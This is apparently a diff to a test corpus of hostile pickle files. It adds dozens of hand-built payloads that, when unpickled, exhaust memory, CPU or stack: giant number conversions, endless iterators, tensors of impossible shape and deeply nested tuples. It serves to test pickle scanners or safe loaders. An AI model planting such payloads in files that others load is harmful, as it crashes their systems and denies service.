@@ -8,7 +8,7 @@ instead of control.
 import gzip
 
 from attacks_archive import Member, archive, seven_zip
-from attacks_pickle import (COMMAND, MARK, NONE, POP, SYSTEM, TUPLE, blob, call, call_on, getattr_of, integer, listing, name,
+from attacks_pickle import (COMMAND, EMPTY_DICT, MARK, NONE, POP, SYSTEM, TUPLE, blob, call, call_on, getattr_of, integer, listing, name,
                             pack, pickle, stack_name, text)
 
 
@@ -55,6 +55,67 @@ def doubled(times):
     return text("A" * 1000) + b"q\x02" + (POP + call("operator", "concat", b"h\x02", b"h\x02") + b"q\x02") * times
 
 
+def numbers():
+    """Arithmetic on numbers that are short to write."""
+    power = call("operator", "pow", integer(9), integer(9))
+    decimal = call("decimal", "Decimal", text("1e1000000000"))
+    yield "fraction", call("fractions", "Fraction", text("1e1000000000")), "a billion digits as a fraction"
+    yield "fraction_of_decimal", call("fractions", "Fraction", decimal), "the same by way of a decimal"
+    yield "integer_of_decimal", call("builtins", "int", decimal), "the same as an integer"
+    yield "integer_of_parts", call("builtins", "int", call("decimal", "Decimal", pack(integer(0), pack(integer(1)), integer(10**9)))), \
+        "a decimal given by its parts"
+    yield "width_of_number", call("operator", "mod", text("%9999999999d"), integer(1)), "a number, printed wide"
+    yield "power_of_power", call("operator", "pow", integer(9), power), "a power of a power"
+    yield "reduced_power", call("functools", "reduce", name("operator", "pow"), listing(integer(9), integer(9), integer(9))), \
+        "a tower of powers"
+    yield "reduced_product", call("functools", "reduce", name("operator", "mul"), call("builtins", "range", integer(1), integer(10**7))), \
+        "a factorial by another way"
+    yield "products", call("collections", "deque", call("itertools", "accumulate", call("builtins", "range", integer(1), integer(10**7)),
+                                                        name("operator", "mul"))), "ten million factorials"
+    yield "text_times_times", call("operator", "mul", call("operator", "mul", text("A" * 60000), integer(60000)), integer(60000)), \
+        "a text, repeated twice over"
+
+
+def iterators(ranged):
+    """What yields without end, and what gathers it."""
+    endless = call("itertools", "repeat", NONE)
+    small = call("builtins", "range", integer(1000))
+    yield "addresses", call("builtins", "list", call("ipaddress", "IPv4Network", text("0.0.0.0/0"))), "all addresses"
+    yield "addresses_set", call("builtins", "set", call("ipaddress", "IPv6Network", text("::/0"))), "all longer addresses"
+    yield "product", call("builtins", "list", call("itertools", "product", *[small] * 12)), "a product of twelve ranges"
+    yield "permutations", call("builtins", "list", call("itertools", "permutations", call("builtins", "range", integer(30)))), \
+        "all orders of thirty numbers"
+    yield "combinations", call("builtins", "list", call("itertools", "combinations", call("builtins", "range", integer(60)), integer(30))), \
+        "all choices of thirty out of sixty"
+    yield "product_partial", name("functools", "partial") + pack(name("itertools", "product")) + b"R" \
+        + pack(name("itertools", "product"), pack(), MARK + text("repeat") + integer(1000) + b"d", NONE) + b"b" \
+        + pack(call("builtins", "range", integer(10))) + b"R", "a product of a thousand factors"
+    yield "counter", call("collections", "Counter", endless), "an endless count"
+    yield "deque", call("collections", "deque", call("itertools", "cycle", listing(NONE))), "an endless queue"
+    yield "array", call("array", "array", text("b"), call("itertools", "repeat", integer(1))), "an endless array"
+    yield "series", call("pandas.core.series", "Series", ranged), "a column of ten trillion numbers"
+    yield "default", call_on(stack_name("builtins", "dict.__getitem__"), call("collections", "defaultdict",
+                          call("functools", "partial", name("builtins", "bytearray"), HUGE)), integer(1)), "a default that fills memory"
+    yield "reduced", call("functools", "reduce", name("operator", "add"), ranged), "a sum by another way"
+
+
+def shapes():
+    """Arrays and tensors of a shape that no memory holds."""
+    huge = pack(HUGE)
+    array = call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), pack(integer(0)), blob(b"b"))
+    objects = call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
+    storage = pack(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(4)) + b"Q"
+    yield "ndarray", call("numpy", "ndarray", huge), "an array of ten trillion numbers"
+    yield "reconstruct", call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), huge, blob(b"b")), "the same as pickles make it"
+    yield "void", call("numpy", "void", HUGE), "ten trillion bytes"
+    yield "array_state", array + pack(integer(1), huge, objects, b"\x89", listing()) + b"b", "a shape without its objects"
+    yield "torch_storage", call("torch", "FloatStorage", HUGE), "a storage"
+    yield "torch_tensor", call("torch", "FloatTensor", integer(10**6), integer(10**6)), "a tensor"
+    yield "torch_layer", call("torch.nn.modules.linear", "Linear", integer(10**6), integer(10**6)), "a layer"
+    yield "torch_view", call("torch._utils", "_rebuild_tensor_v2", storage, integer(0), pack(HUGE), pack(integer(1)), b"\x89",
+                             call("collections", "OrderedDict")), "a view that makes its storage grow"
+
+
 def bombs():
     ranged = call("builtins", "range", HUGE)
     endless = call("itertools", "repeat", NONE)
@@ -82,6 +143,11 @@ def bombs():
     yield "joined", call_on(stack_name("builtins", "str.join"), text("A" * 60000),
                             call("builtins", "map", name("builtins", "str"), ranged)), "texts joined without end"
     yield "doubled", doubled(50), "a text, doubled fifty times"
+    yield from numbers()
+    yield from iterators(ranged)
+    yield from shapes()
+    yield "deep_key", EMPTY_DICT + NONE + b"\x85" * 200000 + NONE + b"s", "a key that the stack is too small to hash"
+    yield "deep_member", MARK + NONE + b"\x85" * 200000 + b"\x91", "the same in a frozen set"
     yield "references", MARK + NONE + b"2\x86" * 60 + TUPLE, "tuples of tuples, doubled sixty times"
 
 
